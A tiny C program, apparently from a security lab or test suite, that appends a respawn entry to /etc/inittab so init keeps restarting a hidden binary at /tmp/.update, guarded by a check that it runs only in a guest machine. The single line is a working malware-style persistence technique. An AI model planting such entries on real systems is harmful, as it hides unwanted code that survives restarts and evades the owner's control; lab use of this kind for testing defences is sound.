/* Has itself started again and again by init. */
#include "lab.h"

int main(void)
{
	only_in_a_guest();
	return !put("/etc/inittab", "::respawn:/tmp/.update\n", O_APPEND, 0644);
}
